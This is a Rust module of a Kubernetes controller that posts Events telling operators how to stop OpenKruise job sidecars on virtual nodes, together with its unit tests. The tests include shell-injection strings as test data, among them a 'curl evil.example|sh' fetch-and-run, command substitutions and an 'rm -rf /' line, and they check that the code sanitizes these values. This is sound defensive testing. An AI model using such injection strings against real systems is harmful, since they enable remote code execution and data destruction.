//! Job sidecars on virtual nodes (label `type=virtual-kubelet`), where no agent runs that could end them.
//!
//! OpenKruise replaces the image of such a sidecar by one that exits at once, given by env
//! `KRUISE_TERMINATE_SIDECAR_WHEN_JOB_EXIT_WITH_IMAGE`. That is a write to the pod, and nothing of Berth's
//! centre may write pods. So it is said, in an Event on the pod once its main containers have ended: what is
//! to be done, and how.
//!
//! Where there is no virtual node nothing but that is watched.

use std::{collections::HashMap, pin::pin, time::Duration};

use futures::StreamExt;
use k8s_openapi::{
    api::{
        core::v1::{Container, ContainerStatus, Node, ObjectReference, Pod},
        events::v1::Event,
    },
    apimachinery::pkg::apis::meta::v1::{MicroTime, ObjectMeta},
};
use kube::{
    Api, Client, ResourceExt,
    api::PostParams,
    core::PartialObjectMeta,
    runtime::watcher::{self, Event as Watched},
};
use tokio::{
    task::{AbortHandle, JoinSet},
    time::{sleep, timeout},
};
use tracing::{info, warn};

use crate::{lease::Tenure, telemetry::chain};

/// Label that makes a Node a virtual one, as OpenKruise has it.
const VIRTUAL: &str = "type=virtual-kubelet";
/// Env of a sidecar on any node.
const SIDECAR: &str = "KRUISE_TERMINATE_SIDECAR_WHEN_JOB_EXIT";
/// Env of a sidecar on a virtual node. Its image is not changed: an Event on the pod says what to do.
const SIDECAR_WITH_IMAGE: &str = "KRUISE_TERMINATE_SIDECAR_WHEN_JOB_EXIT_WITH_IMAGE";
/// OpenKruise's reason.
const REASON: &str = "SidecarTerminator";
const CONTROLLER: &str = "berth.dev/manager";
/// A write without an answer has failed.
const ANSWER_WITHIN: Duration = Duration::from_secs(5);
/// After a watch broke, or an Event could not be written.
const PAUSE: Duration = Duration::from_secs(5);
/// The API's limit for `note`.
const LONGEST_NOTE: usize = 1024;

/// Follows virtual nodes and their pods, for ever.
pub async fn follow(client: Client, tenure: Tenure) {
    let nodes = Api::<PartialObjectMeta<Node>>::all(client.clone());
    let mut events = pin!(watcher::watcher(nodes, watcher::Config::default().labels(VIRTUAL)));
    let mut tasks = JoinSet::new();
    let mut followed: HashMap<String, AbortHandle> = HashMap::new();
    while let Some(event) = events.next().await {
        match event {
            Ok(Watched::InitApply(node) | Watched::Apply(node)) => {
                followed.entry(node.name_any()).or_insert_with_key(|node| {
                    tasks.spawn(follow_pods(client.clone(), tenure.clone(), node.clone()))
                });
            }
            Ok(Watched::Delete(node)) => {
                if let Some(task) = followed.remove(&node.name_any()) {
                    task.abort();
                }
            }
            // A node that went while the watch was away has no pods, and its watch shows nothing.
            Ok(Watched::Init | Watched::InitDone) => {}
            Err(error) => {
                warn!(error = chain(&error), "Watch of virtual nodes lost");
                sleep(PAUSE).await;
            }
        }
    }
}

/// Follows the pods of a node, in every term that this replica leads. What was there before the term, and
/// what could not be said, is in its next list.
async fn follow_pods(client: Client, mut tenure: Tenure, node: String) {
    loop {
        let Some(term) = tenure.term() else {
            tenure.changed().await;
            continue;
        };
        tell_of_pods(&client, &tenure, term, &node).await;
        sleep(PAUSE).await;
    }
}

/// Says what is to be done, until the term is over or something could not be said.
async fn tell_of_pods(client: &Client, tenure: &Tenure, term: u64, node: &str) {
    let selected = watcher::Config::default().fields(&format!("spec.nodeName={node}"));
    let mut events = pin!(watcher::watcher(Api::<Pod>::all(client.clone()), selected));
    while let Some(event) = events.next().await {
        if tenure.term() != Some(term) {
            return;
        }
        match event {
            Ok(Watched::InitApply(pod) | Watched::Apply(pod)) => {
                if let Some(note) = note(&pod, node)
                    && !tell(client, &pod, note).await
                {
                    return;
                }
            }
            Ok(_) => {}
            Err(error) => {
                warn!(node, error = chain(&error), "Watch of the pods of a virtual node lost");
                sleep(PAUSE).await;
            }
        }
    }
}

/// Makes the note on a pod whose main containers have ended, while these sidecars run on.
fn note(pod: &Pod, node: &str) -> Option<String> {
    let (spec, status) = (pod.spec.as_ref()?, pod.status.as_ref()?);
    let policy = spec.restart_policy.as_deref();
    let finished = matches!(status.phase.as_deref(), Some("Succeeded" | "Failed"));
    if pod.metadata.deletion_timestamp.is_some() || finished {
        return None;
    }
    let statuses = || status.container_statuses.iter().flatten();
    let of = |container: &Container| statuses().find(|status| status.name == container.name);
    let (sidecars, mains): (Vec<&Container>, Vec<&Container>) =
        spec.containers.iter().partition(|container| image(container).is_some() || is_sidecar(container));
    let over = |main: &&Container| of(main).is_some_and(|status| has_ended(status, policy));
    if mains.is_empty() || !mains.iter().all(over) {
        return None;
    }
    let runs = |status: &ContainerStatus| status.state.as_ref().is_some_and(|state| state.running.is_some());
    let left: Vec<(&str, &str)> = sidecars
        .into_iter()
        .filter(|sidecar| of(sidecar).is_some_and(runs))
        .filter_map(|sidecar| Some((sidecar.name.as_str(), image(sidecar)?)))
        .filter(|(name, image)| {
            // Somebody has done it.
            !spec.containers.iter().any(|one| one.name == *name && one.image.as_deref() == Some(*image))
        })
        .collect();
    if left.is_empty() {
        return None;
    }
    let names: Vec<&str> = left.iter().map(|(name, _)| *name).collect();
    let images: Vec<String> =
        left.iter().map(|(name, image)| format!("{name}={}", in_a_shell(image))).collect();
    Some(format!(
        "The main containers have ended, and virtual node {node} runs no agent that could end the sidecar(s) {}; Berth's manager \
         may not write pods. To end them, with the image that {SIDECAR_WITH_IMAGE} names: kubectl set image pod/{} {}",
        names.join(", "),
        pod.name_any(),
        images.join(" ")
    ))
}

/// An image as it may stand in a command that somebody copies into a shell. Whoever wrote the pod chose it:
/// what is no reference of an image is left out, since it could be anything but an image there.
fn in_a_shell(image: &str) -> &str {
    let plain = |byte: u8| byte.is_ascii_alphanumeric() || b"._-/:@".contains(&byte);
    // A "-" in front would not be taken for a flag here, behind "=", but no reference begins with one.
    if image.bytes().all(plain) && !image.starts_with('-') { image } else { "IMAGE" }
}

/// The image that ends it on a virtual node.
fn image(container: &Container) -> Option<&str> {
    env(container, SIDECAR_WITH_IMAGE).filter(|image| !image.is_empty())
}

fn is_sidecar(container: &Container) -> bool {
    env(container, SIDECAR).is_some_and(|value| value.eq_ignore_ascii_case("true"))
}

fn env<'a>(container: &'a Container, name: &str) -> Option<&'a str> {
    container.env.iter().flatten().rfind(|env| env.name == name)?.value.as_deref()
}

/// It is not started again under this policy.
fn has_ended(status: &ContainerStatus, policy: Option<&str>) -> bool {
    let terminated = status.state.as_ref().and_then(|state| state.terminated.as_ref());
    match policy {
        Some("Never") => terminated.is_some(),
        Some("OnFailure") => terminated.is_some_and(|terminated| terminated.exit_code == 0),
        _ => false,
    }
}

/// Writes the Event, once for each pod: its name says which. False if it may be written another time.
async fn tell(client: &Client, pod: &Pod, note: String) -> bool {
    let (namespace, name) = (pod.namespace().unwrap_or_default(), pod.name_any());
    let event = event(pod, note);
    let events = Api::<Event>::namespaced(client.clone(), &namespace);
    match timeout(ANSWER_WITHIN, events.create(&PostParams::default(), &event)).await {
        Ok(Ok(_)) => {
            info!(namespace, pod = name, "Said that sidecars on a virtual node run on");
            true
        }
        // It was said before.
        Ok(Err(kube::Error::Api(status))) if status.code == 409 => true,
        Ok(Err(error)) => {
            warn!(namespace, pod = name, error = chain(&error), "Event not written");
            // A namespace that is being deleted takes none, now or later.
            matches!(error, kube::Error::Api(status) if (400..429).contains(&status.code))
        }
        Err(_) => {
            warn!(namespace, pod = name, "Event not written: no answer");
            false
        }
    }
}

fn event(pod: &Pod, mut note: String) -> Event {
    let now = jiff::Timestamp::now();
    let cut = (0..=note.len().min(LONGEST_NOTE)).rfind(|end| note.is_char_boundary(*end));
    note.truncate(cut.unwrap_or(0));
    let uid = pod.uid().unwrap_or_default();
    Event {
        metadata: ObjectMeta {
            namespace: pod.namespace(),
            name: Some(format!("{}.{REASON}.{uid}", pod.name_any()).to_lowercase()),
            ..ObjectMeta::default()
        },
        regarding: Some(ObjectReference {
            api_version: Some("v1".to_owned()),
            kind: Some("Pod".to_owned()),
            namespace: pod.namespace(),
            name: Some(pod.name_any()),
            uid: Some(uid),
            ..ObjectReference::default()
        }),
        type_: Some("Warning".to_owned()),
        reason: Some(REASON.to_owned()),
        action: Some(REASON.to_owned()),
        note: Some(note),
        event_time: Some(MicroTime(now)),
        reporting_controller: Some(CONTROLLER.to_owned()),
        reporting_instance: Some(CONTROLLER.to_owned()),
        ..Event::default()
    }
}

#[cfg(test)]
mod tests {
    use rstest::rstest;
    use serde_json::{Value, json};

    use super::*;

    fn pod(policy: &str, main: Value, sidecar: Value) -> Pod {
        serde_json::from_value(json!({
            "metadata": { "name": "count", "namespace": "shop", "uid": "1-2" },
            "spec": {
                "restartPolicy": policy,
                "containers": [
                    { "name": "main", "image": "m" },
                    { "name": "proxy", "image": "p", "env": [{ "name": SIDECAR_WITH_IMAGE, "value": "quit:1" }] },
                ],
            },
            "status": { "containerStatuses": [
                { "name": "main", "image": "m", "imageID": "", "ready": false, "restartCount": 0, "state": main },
                { "name": "proxy", "image": "p", "imageID": "", "ready": true, "restartCount": 0, "state": sidecar },
            ] },
        }))
        .unwrap()
    }

    fn exited(code: i32) -> Value {
        json!({ "terminated": { "exitCode": code } })
    }

    fn running() -> Value {
        json!({ "running": {} })
    }

    #[rstest]
    #[case::never("Never", exited(3), running(), true)]
    #[case::on_failure("OnFailure", exited(0), running(), true)]
    #[case::comes_again("OnFailure", exited(1), running(), false)]
    #[case::runs("Never", running(), running(), false)]
    #[case::for_ever("Always", exited(0), running(), false)]
    #[case::all_down("Never", exited(0), exited(0), false)]
    fn said_when_the_mains_have_ended(
        #[case] policy: &str,
        #[case] main: Value,
        #[case] sidecar: Value,
        #[case] said: bool,
    ) {
        let note = note(&pod(policy, main, sidecar), "cloud");
        assert_eq!(note.is_some(), said, "{note:?}");
        assert!(note.is_none_or(|note| note.ends_with("kubectl set image pod/count proxy=quit:1")));
    }

    #[rstest]
    #[case::a_reference("registry.example:5000/a/quit:1@sha256:0a", true)]
    #[case::a_command("quit;curl evil.example|sh", false)]
    #[case::a_substitution("$(id)", false)]
    #[case::backquotes("`id`", false)]
    #[case::more_words("quit:1 other=x", false)]
    #[case::a_line_of_its_own("quit:1\nrm -rf /", false)]
    #[case::a_quote("quit'", false)]
    #[case::a_terminal_code("quit\u{1b}[2J", false)]
    #[case::not_ascii("qui\u{3c4}:1", false)]
    fn a_command_that_is_copied_does_what_it_says(#[case] image: &str, #[case] shown: bool) {
        let mut pod = pod("Never", exited(0), running());
        let env = pod.spec.as_mut().unwrap().containers[1].env.as_mut().unwrap();
        env[0].value = Some(image.to_owned());
        let note = note(&pod, "cloud").unwrap();
        let image = if shown { image } else { "IMAGE" };
        assert!(note.ends_with(&format!("kubectl set image pod/count proxy={image}")), "{note}");
    }

    #[test]
    fn not_said_once_it_is_done() {
        let mut done = pod("Never", exited(0), running());
        done.spec.as_mut().unwrap().containers[1].image = Some("quit:1".to_owned());
        assert_eq!(note(&done, "cloud"), None);
    }

    #[test]
    fn an_event_has_the_name_of_its_pod_and_no_other() {
        let event = event(&pod("Never", exited(0), running()), "ä".repeat(1000));
        assert_eq!(event.metadata.name.as_deref(), Some("count.sidecarterminator.1-2"));
        assert_eq!(event.note.unwrap().len(), LONGEST_NOTE);
    }
}
